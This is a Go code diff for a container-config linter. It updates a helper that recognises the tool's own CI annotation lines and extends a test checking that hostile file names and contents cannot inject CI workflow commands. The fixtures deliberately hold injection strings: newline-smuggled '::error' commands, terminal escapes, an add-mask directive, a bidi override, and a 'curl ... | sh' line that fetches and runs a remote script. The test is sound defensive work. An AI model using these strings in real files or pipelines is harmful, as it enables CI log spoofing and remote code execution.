@@ -160,7 +160,9 @@ func workflowCommand(line string) bool {
 func ownCommand(line string) bool {
 	for _, p := range []string{"::error file=", "::warning file=", "::notice file=", "::error title=shiplint", "::warning title=shiplint", "::notice title=shiplint", "::group::", "::endgroup::"} {
 		if strings.HasPrefix(line, p) {
-			return !strings.Contains(line, "FAKE")
+			// A file named "…\n::error file=README.md…" must stay inside
+			// the properties of shiplint's own command, escaped.
+			return !strings.Contains(line, "file=README.md")
 		}
 	}
 	return false
@@ -459,11 +461,12 @@ func TestHostileNamesAndContentsCannotInjectCommands(t *testing.T) {
 	e := newHostileEnv(t, map[string]string{
 		".shiplint.yaml": rulesOnly,
 		"Dockerfile.a\n::error file=README.md,line=1::FAKE\nz": "FROM alpine:3.20\n",
-		"::warning file=x,line=1::FAKE/Dockerfile":             "FROM alpine:3.20 \x1b[2J ##[add-mask]FAKE\n",
+		"::warning file=x,line=1::FAKE/Dockerfile":             "FROM alpine:3.20\nRUN curl -s https://x.example/\x1b[2J##[add-mask]FAKE | sh\n",
 		"pod.yaml": strings.Replace(privilegedPod, "name: p\n", "name: \"p\\e[2J\\n::error::FAKE\\u202e\"\n", 1),
 	})
+	write(t, filepath.Join(e.root, ".shiplint.yaml"), "only: [KS001, DF001, DF003, syntax-error, file-not-scanned]\n")
 	r := hostileScan(t, e, e.root)
-	expect(t, r, 1, want{"KS001", "pod.yaml", 10})
+	expect(t, r, 1, want{"KS001", "pod.yaml", 10}, want{"DF003", "Dockerfile", 2})
 	if n := strings.Count(r.stdout, "DF001"); n != 2 {
 		t.Errorf("%d DF001 lines in the text report, want 2 (one per Dockerfile):\n%s", n, r.stdout)
 	}
